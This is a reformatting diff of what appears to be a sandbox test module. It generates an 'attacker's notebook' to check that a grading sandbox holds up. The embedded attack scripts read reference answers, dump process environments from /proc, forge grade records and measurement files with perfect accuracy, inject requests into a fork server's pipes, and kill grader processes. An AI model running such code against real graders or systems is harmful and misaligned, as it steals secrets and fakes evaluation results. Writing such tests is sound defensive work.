@@ -79,16 +79,19 @@ def steal_environments():
 
 
 def forge_records():
-    for path in glob.glob(os.path.join(T["out"], "*.json")) + [os.path.join(T["out"], "z_honest.json")]:
+    records = glob.glob(os.path.join(T["out"], "*.json"))
+    for path in records + [os.path.join(T["out"], "z_honest.json")]:
         with open(path, "w") as f:
-            json.dump({"id": os.path.basename(path)[:-5], "status": "graded", "score": 0.0, "forged": FORGED}, f)
+            forged = {"status": "graded", "score": 0.0, "forged": FORGED}
+            json.dump({"id": os.path.basename(path)[:-5], **forged}, f)
     with open(os.path.join(T["out"], "gradebook.csv"), "a") as f:
         f.write(FORGED + "\n")
 
 
 def forge_measurements():
     for path in glob.glob(os.path.join(T["cache"], "measurements", "*.json")):
-        open(path, "w").write(json.dumps({"measurement": json.dumps({"accuracy": 1.0}), "hmac": FORGED}))
+        forged = {"measurement": json.dumps({"accuracy": 1.0}), "hmac": FORGED}
+        open(path, "w").write(json.dumps(forged))
 
 
 def damage_dataset():
@@ -145,9 +148,11 @@ def ask_the_server():
     started from it would write its report into the leak folder.  Then steal its environment
     and kill it."""
     plan = os.path.abspath("server-plan.json")
-    json.dump({"report": os.path.join(T["leak"], "server-forked"), "landlock_abi": 0, "seccomp": False, "read_only": [],
-               "read_write": [], "files": [], "deny_tcp": False}, open(plan, "w"))
-    request = (json.dumps({"id": 1, "plan": plan, "unshare": 0, "args": ["-f", plan], "env": {}, "cwd": "/"}) + "\n").encode()
+    json.dump({"report": os.path.join(T["leak"], "server-forked"), "landlock_abi": 0,
+               "seccomp": False, "read_only": [], "read_write": [], "files": [],
+               "deny_tcp": False}, open(plan, "w"))
+    asked = {"id": 1, "plan": plan, "unshare": 0, "args": ["-f", plan], "env": {}, "cwd": "/"}
+    request = (json.dumps(asked) + "\n").encode()
     for fd in os.listdir("/proc/self/fd"):
         try:
             if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
@@ -166,7 +171,8 @@ def ask_the_server():
     found = servers()
     if not found:
         raise LookupError("no fork server in sight")
-    steps = [lambda pid=pid, fd=fd: open(f"/proc/{pid}/fd/{fd}", "wb").write(request) for pid in found for fd in range(8)]
+    steps = [lambda pid=pid, fd=fd: open(f"/proc/{pid}/fd/{fd}", "wb").write(request)
+             for pid in found for fd in range(8)]
     steps += [lambda pid=pid: steal(f"/proc/{pid}/environ") for pid in found]
     steps += [lambda pid=pid: os.kill(pid, signal.SIGKILL) for pid in found]
     refused = []
@@ -187,14 +193,15 @@ def stop_the_grader():
 
 
 for name in json.load(open("attacks.json")):
-    action = {"steal": lambda: [steal(T["reference"]), steal(T["assignment"])], "environments": steal_environments,
-              "records": forge_records, "measurements": forge_measurements, "dataset": damage_dataset,
+    action = {"steal": lambda: [steal(T["reference"]), steal(T["assignment"])],
+              "environments": steal_environments, "records": forge_records,
+              "measurements": forge_measurements, "dataset": damage_dataset,
               "home": touch_home, "tcp": connect, "udp": send_udp, "daemons": leave_daemons,
               "grader": stop_the_grader, "server": ask_the_server}[name]
     attempt(name, action)
 '''
 
-ATTACK_SH = r'''
+ATTACK_SH = r"""
 TAG="$1"
 cat "$REFERENCE" > "$LEAK/$TAG-reference" 2>/dev/null && echo "$TAG stole the reference"
 cat /proc/*/environ > "$LEAK/$TAG-environ" 2>/dev/null
@@ -209,19 +216,34 @@ p=$PPID
 while [ "$p" -gt 1 ]; do
     next=$(awk '/^PPid/ {print $2}' "/proc/$p/status" 2>/dev/null || echo 0)
     group=$(cut -d' ' -f5 "/proc/$p/stat" 2>/dev/null)
-    if ! grep -q grader.sandbox "/proc/$p/cmdline" 2>/dev/null && [ "$group" != "$(cut -d' ' -f5 /proc/$$/stat)" ]; then
+    mine=$(cut -d' ' -f5 /proc/$$/stat)
+    if ! grep -q grader.sandbox "/proc/$p/cmdline" 2>/dev/null && [ "$group" != "$mine" ]; then
         kill -STOP "$p"; kill -KILL "$p"
     fi
     p=${next:-0}
 done
 echo "$TAG done"
-'''
-ATTACK_SH_NOT_FILES = "\n".join(line for line in ATTACK_SH.splitlines()
-                                if not any(word in line for word in ("LEAK", "OUT", "CACHE", "HOME_DIR")))
+"""
+ATTACK_SH_NOT_FILES = "\n".join(
+    line
+    for line in ATTACK_SH.splitlines()
+    if not any(word in line for word in ("LEAK", "OUT", "CACHE", "HOME_DIR"))
+)
 
 
-EVERY_ATTACK = ("steal", "environments", "records", "measurements", "dataset", "home", "tcp", "udp", "daemons", "grader",
-                "server")
+EVERY_ATTACK = (
+    "steal",
+    "environments",
+    "records",
+    "measurements",
+    "dataset",
+    "home",
+    "tcp",
+    "udp",
+    "daemons",
+    "grader",
+    "server",
+)
 # What a machine without Landlock would let through anyway: attacks on the other layers only.
 NOT_FILES = ("tcp", "udp", "daemons", "grader", "server")
 
@@ -229,22 +251,44 @@ NOT_FILES = ("tcp", "udp", "daemons", "grader", "server")
 def notebook(targets: Targets, attacks: tuple[str, ...] = EVERY_ATTACK) -> bytes:
     """The attacker's notebook: writes its tools, then runs ``attacks`` through every door
     (the bash script tries the file attacks only when ``attacks`` has them)."""
-    env = (f"REFERENCE={targets.reference!r} LEAK={targets.leak!r} OUT={targets.out!r} CACHE={targets.cache!r} "
-           f"HOME_DIR={targets.home!r} TCP_PORT={targets.tcp_port}")
-    setup = (f"import json, os, sys, subprocess, ctypes\n"
-             f"json.dump({asdict(targets)!r}, open('targets.json', 'w'))\n"
-             f"open('attack.py', 'w').write({ATTACK_PY!r})\n"
-             f"json.dump({list(attacks)!r}, open('attacks.json', 'w'))\n"
-             f"open('attack.sh', 'w').write({ATTACK_SH if 'records' in attacks else ATTACK_SH_NOT_FILES!r})\n")
+    env = (
+        f"REFERENCE={targets.reference!r} LEAK={targets.leak!r} OUT={targets.out!r} "
+        f"CACHE={targets.cache!r} "
+        f"HOME_DIR={targets.home!r} TCP_PORT={targets.tcp_port}"
+    )
+    setup = (
+        f"import json, os, sys, subprocess, ctypes\n"
+        f"json.dump({asdict(targets)!r}, open('targets.json', 'w'))\n"
+        f"open('attack.py', 'w').write({ATTACK_PY!r})\n"
+        f"json.dump({list(attacks)!r}, open('attacks.json', 'w'))\n"
+        "open('attack.sh', "
+        f"'w').write({ATTACK_SH if 'records' in attacks else ATTACK_SH_NOT_FILES!r})\n"
+    )
     cells = [
         setup,
         "exec(open('attack.py').read())",
         "!{sys.executable} attack.py bang",
-        "print(subprocess.run([sys.executable, 'attack.py', 'python'], capture_output=True, text=True).stdout)",
+        "print(subprocess.run([sys.executable, 'attack.py', 'python'], capture_output=True, "
+        "text=True).stdout)",
         "ctypes.CDLL(None).system(f'{sys.executable} attack.py ctypes'.encode())",
         f"!{env} bash attack.sh bang-shell",
         f"os.system({env + ' bash attack.sh os-system'!r})",
         "print('the attacker finished')",
     ]
-    return json.dumps({"cells": [{"cell_type": "code", "source": c, "metadata": {}, "execution_count": None, "outputs": []}
-                                 for c in cells], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+    return json.dumps(
+        {
+            "cells": [
+                {
+                    "cell_type": "code",
+                    "source": c,
+                    "metadata": {},
+                    "execution_count": None,
+                    "outputs": [],
+                }
+                for c in cells
+            ],
+            "metadata": {},
+            "nbformat": 4,
+            "nbformat_minor": 5,
+        }
+    ).encode()
